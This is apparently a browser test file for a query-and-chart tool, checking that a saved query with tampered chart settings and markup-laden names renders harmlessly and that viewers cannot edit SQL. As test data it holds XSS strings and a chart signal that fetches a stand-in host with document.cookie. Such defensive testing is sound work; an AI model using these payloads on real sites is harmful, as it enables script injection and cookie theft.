// A saved query whose stored chart settings were tampered with (THREATS.md 40) and whose name, column
// names and cells carry markup (THREATS.md 39): the permalink opens, the chart still renders from the
// parts Porthole understands, no script runs, no request leaves the origin, and the CSP holds.
import { describe, expect, it } from 'vitest';
import { jsonHeaders, signIn } from '../support/auth.js';
import { browserAvailable } from '../support/browser.js';
import { serverAndBrowser } from '../support/browser-suite.js';
import { expectCleanPage, openPage } from './editor-support.js';

const PAYLOAD = '<img src=x onerror=alert(1)>';
// Nothing listens there; a request to it would show up in the page's foreign requests.
const OUTSIDE = 'http://127.0.0.2:9';

const hostileChart = {
  type: 'bar',
  usermeta: { embedOptions: { actions: true, loader: { baseURL: OUTSIDE } } },
  data: { url: `${OUTSIDE}/steal.json` },
  $schema: `${OUTSIDE}/schema.json`,
  signals: [{ name: 'exfiltrate', update: `fetch('${OUTSIDE}/x?' + document.cookie)` }],
  transform: [{ calculate: 'alert(1)', as: 'boom' }],
  mark: { type: 'image', url: `${OUTSIDE}/pixel.png` },
  encoding: { tooltip: { field: 'x', format: '<img src=x onerror=alert(2)>' } },
  title: PAYLOAD,
};

describe.skipIf(!browserAvailable)('saved chart settings (Chromium)', { timeout: 90_000 }, () => {
  const suite = serverAndBrowser();

  it('ignores a smuggled Vega spec and renders markup in names and titles as text (THREATS 39, 40)', async () => {
    const owner = await signIn(suite.server, 'editor');
    const response = await fetch(`${suite.server.origin}/api/queries`, {
      method: 'POST',
      headers: jsonHeaders(owner, suite.server),
      body: JSON.stringify({
        name: PAYLOAD,
        dataSource: 'main',
        sql: `select '${PAYLOAD}' as "${PAYLOAD.replace('1', '3')}", 3 as n union all select 'b', 5`,
        chart: hostileChart,
      }),
    });
    expect(response.status).toBe(201);
    const created = (await response.json()) as { url: string };

    const editor = await openPage(suite.browser, suite.server, created.url);
    const { page } = editor;
    const chart = page.locator('[data-testid="chart"][data-status="drawn"]');
    await chart.waitFor();
    expect(await chart.getAttribute('data-type')).toBe('bar');
    expect(await chart.locator('svg .mark-rect path').count()).toBe(2);
    // The query's name is the chart's title, and the column name the axis title: both drawn as text.
    expect(await chart.locator('svg text', { hasText: PAYLOAD }).count()).toBeGreaterThan(0);
    expect(await chart.locator('svg text', { hasText: PAYLOAD.replace('1', '3') }).count()).toBeGreaterThan(0);
    expect(await chart.locator('svg image, img').count()).toBe(0);
    await page.getByRole('gridcell', { name: PAYLOAD }).waitFor();
    expect(await page.locator('img[src="x"]').count()).toBe(0);
    await page.waitForTimeout(500); // time for anything a spec might have scheduled
    await expectCleanPage(editor);
    await editor.close();
  });

  it('lets a viewer run a saved query and see its chart, with the SQL read-only', async () => {
    const owner = await signIn(suite.server, 'editor');
    const response = await fetch(`${suite.server.origin}/api/queries`, {
      method: 'POST',
      headers: jsonHeaders(owner, suite.server),
      body: JSON.stringify({
        name: 'Jobs per day',
        dataSource: 'main',
        sql: "select date_trunc('day', created_at) as day, count(*) as jobs from jobs group by 1 order by 1",
        chart: { version: 1, type: 'area' },
      }),
    });
    const created = (await response.json()) as { url: string };
    const viewer = await openPage(suite.browser, suite.server, created.url, { role: 'viewer' });
    const { page } = viewer;
    const chart = page.locator('[data-testid="chart"][data-status="drawn"][data-type="area"]');
    await chart.waitFor();
    expect(await chart.locator('svg .mark-area path').count()).toBe(1);
    expect(await page.getByTestId('schema-panel').count()).toBe(0);
    await page.locator('.cm-content').click();
    await page.keyboard.type('drop table jobs; ');
    expect(await page.locator('.cm-content').innerText()).toMatch(/^select date_trunc/);
    await expectCleanPage(viewer);
    await viewer.close();
  });
});
